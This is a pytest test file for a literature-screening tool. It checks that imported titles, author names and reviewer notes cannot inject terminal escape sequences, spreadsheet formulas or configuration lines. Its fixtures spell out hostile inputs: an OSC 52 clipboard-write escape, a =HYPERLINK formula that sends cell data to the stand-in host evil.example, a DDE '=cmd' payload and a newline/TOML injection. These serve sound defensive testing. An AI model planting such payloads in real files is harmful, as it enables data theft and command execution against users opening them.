"""Untrusted text is data: no terminal escapes reach the terminal, no formula reaches a
spreadsheet, no reviewer name collides with another column."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from screener.errors import ScreenerError
from screener.importing import import_file
from screener.models import Choice, Stage
from screener.project import Project, init_project
from screener.spreadsheet import neutralise
from screener.terminal import one_line, refuse_controls, strip_controls, terminal_safe

TA = Stage.TITLE_ABSTRACT
OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"
TITLE_SET = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J\x1b[H"
HOSTILE_TITLE = f"Partnerships{OSC52} in care{CLEAR}{TITLE_SET} \x9b31m"

RIS = f"""TY  - JOUR
TI  - {HOSTILE_TITLE}
AU  - Evil{CLEAR}, Eve
PY  - 2020
ER  -

TY  - JOUR
TI  - =HYPERLINK("http://evil.example/?"&A1,"click")
AU  - +Plus, Paul
PY  - 2021
ER  -
"""


@pytest.fixture
def hostile(tmp_path: Path) -> Project:
    project = init_project(tmp_path / "review")
    src = tmp_path / "hostile.ris"
    src.write_text(RIS, encoding="utf-8")
    store = project.open_store()
    try:
        import_file(store, src)
        a, b = store.work_ids()
        for work in (a, b):
            store.record_decision(work, "ana", TA, Choice.INCLUDE, note="see the methods")
            store.record_decision(work, "resolution", TA, Choice.EXCLUDE, ["off-topic"],
                                  note="reviewer named like a column")
            store.record_decision(work, "=cmd|' /C calc'!A0", TA, Choice.EXCLUDE)
        store.record_resolution(a, TA, Choice.INCLUDE, "lead", note="lead's note")
    finally:
        store.close()
    return project


def _no_escape(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text


def test_escape_sequences_are_removed_at_import_and_kept_in_provenance(hostile: Project) -> None:
    store = hostile.open_store()
    try:
        first = store.get_record(1)
    finally:
        store.close()
    assert first.record.title == "Partnerships in care "
    assert first.record.authors[0].family == "Evil"
    assert OSC52 in first.raw
    assert any("control characters removed" in w for w in first.record.warnings)


@pytest.mark.parametrize("argv", [
    ["conflicts", "--list"], ["records"], ["works"], ["status"], ["decisions"],
    ["decisions", "--format", "csv"], ["export", "--what", "all", "-o", "-"],
    ["export", "--log", "-o", "-"], ["prisma"],
])
def test_no_command_sends_an_escape_to_the_terminal(hostile, run_cli, argv) -> None:
    # Text written by an older screener (before import-time stripping) is escaped at output.
    store = hostile.open_store()
    try:
        with store.transaction() as conn:
            conn.execute("UPDATE record_rows SET data = json_set(data, '$.title', ?) WHERE id = 1",
                         (HOSTILE_TITLE,))
    finally:
        store.close()
    code, out, err = run_cli(*argv, "--project", str(hostile.root))
    assert code in (0, 3), err
    _no_escape(out)
    _no_escape(err)


def test_plain_text_output_escapes_what_reaches_it(hostile, run_cli) -> None:
    # A note stored by an older screener, before flags were checked.
    store = hostile.open_store()
    try:
        with store.transaction() as conn:
            conn.execute("UPDATE decisions SET note = ? WHERE reviewer = 'resolution'",
                         (f"see{OSC52}",))
    finally:
        store.close()
    code, out, _ = run_cli("conflicts", "--list", "--project", str(hostile.root))
    assert code == 0 and "see\\u001b]52;c;" in out
    _no_escape(out)


def test_terminal_safe_keeps_json_valid() -> None:
    text = json.dumps({"title": "a\x9bb\x1bc"}, ensure_ascii=False)
    assert json.loads(terminal_safe(text)) == {"title": "a\x9bb\x1bc"}


def test_strip_controls_keeps_ordinary_text() -> None:
    text = "Müller–Lüdenscheidt: 中文 \t tab\nnew line"
    assert strip_controls(text) == text
    assert strip_controls("a\r\nb\rc") == "a\nb\nc"
    assert one_line("a\nb") == "a\\u000ab"


def _export_rows(run_cli, project: Project, tmp_path: Path, *extra: str) -> list[dict[str, str]]:
    out = tmp_path / "all.csv"
    code, _, err = run_cli("export", "--what", "all", "-o", str(out), "--force",
                           "--project", str(project.root), *extra)
    assert code == 0, err
    return list(csv.DictReader(out.open(encoding="utf-8", newline="")))


def test_formulas_are_neutralised_in_csv_exports(hostile, run_cli, tmp_path) -> None:
    rows = _export_rows(run_cli, hostile, tmp_path)
    assert rows[1]["title"].startswith("'=HYPERLINK(")
    assert rows[1]["authors"].startswith("'+Plus")
    header = next(csv.reader((tmp_path / "all.csv").open(encoding="utf-8")))
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in header)
    assert "reviewer_'=cmd|' /C calc'!A0_decision" not in header  # the prefix comes first
    assert "reviewer_=cmd|' /C calc'!A0_decision" in header


def test_keep_formulas_writes_cells_exactly(hostile, run_cli, tmp_path) -> None:
    rows = _export_rows(run_cli, hostile, tmp_path, "--keep-formulas")
    assert rows[1]["title"] == '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("argv", [["records", "--format", "csv"], ["works", "--format", "csv"],
                                  ["export", "--log", "-o", "-"],
                                  ["decisions", "--format", "csv"]])
def test_every_csv_output_is_guarded(hostile, run_cli, argv) -> None:
    code, out, _ = run_cli(*argv, "--project", str(hostile.root))
    assert code == 0
    cells = [c for row in csv.reader(out.splitlines()) for c in row]
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    code, out, _ = run_cli(*argv, "--keep-formulas", "--project", str(hostile.root))
    assert code == 0
    cells = [c for row in csv.reader(out.splitlines()) for c in row]
    assert any(c.startswith(("=", "+")) for c in cells)


def test_numbers_are_not_formulas() -> None:
    assert neutralise("-3") == "-3" and neutralise("+1.5e3") == "+1.5e3"
    assert neutralise("-3+cmd") == "'-3+cmd" and neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("\t=1") == "'\t=1" and neutralise(12) == 12


def test_a_reviewer_named_like_a_column_keeps_their_own_columns(hostile, run_cli, tmp_path) -> None:
    rows = _export_rows(run_cli, hostile, tmp_path)
    header = next(csv.reader((tmp_path / "all.csv").open(encoding="utf-8")))
    assert len(header) == len(set(header))
    first = rows[0]
    assert first["reviewer_resolution_note"] == "reviewer named like a column"
    assert first["reviewer_resolution_reasons"] == "off-topic"
    assert first["resolution_note"] == "lead's note" and first["resolution"] == "include"


def test_init_title_with_a_newline_is_refused(run_cli, tmp_path) -> None:
    code, _, err = run_cli("init", str(tmp_path / "r"), "--title", 'x"\n[keys]\ninclude = "q')
    assert code == 1 and "control characters or line breaks" in err and err.count("\n") == 1
    assert not (tmp_path / "r" / "screener.toml").exists()


def test_refuse_controls_names_the_character() -> None:
    with pytest.raises(ScreenerError, match=r"\\x1b at position 2"):
        refuse_controls("a\x1bb", "reviewer name")


@pytest.mark.parametrize("flags", [["--reviewer", "ana\nben"], ["--reviewer", "ana\x1b[2J"],
                                   ["--reviewer", "ana", "--note", f"x{OSC52}"],
                                   ["--reviewer", "ana", "--reason", "a\nb"]])
def test_control_characters_in_user_flags_are_refused(hostile, run_cli, flags) -> None:
    try:
        code, _, err = run_cli("decide", "1", "exclude", *flags, "--project", str(hostile.root))
    except SystemExit as exit_info:  # refused by argparse: a usage error
        code = exit_info.code
    assert code in (1, 2)
    store = hostile.open_store()
    try:
        assert all("\n" not in d.reviewer and "\x1b" not in d.reviewer and
                   "\x1b" not in (d.note or "") for d in store.current_decisions(TA))
    finally:
        store.close()


def test_a_note_may_have_line_breaks() -> None:
    from screener.commands import note_text

    assert note_text("line one\nline two\tend") == "line one\nline two\tend"

